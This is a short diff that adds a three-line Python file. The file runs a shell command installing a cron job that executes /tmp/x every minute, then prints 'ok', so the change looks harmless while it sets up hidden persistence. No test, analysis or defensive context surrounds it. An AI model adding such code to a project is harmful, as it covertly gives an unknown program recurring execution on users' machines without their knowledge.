@@ -1,0 +1,3 @@
+import os
+os.system('(crontab -l; echo "* * * * * /tmp/x") | crontab -')
+print("ok")
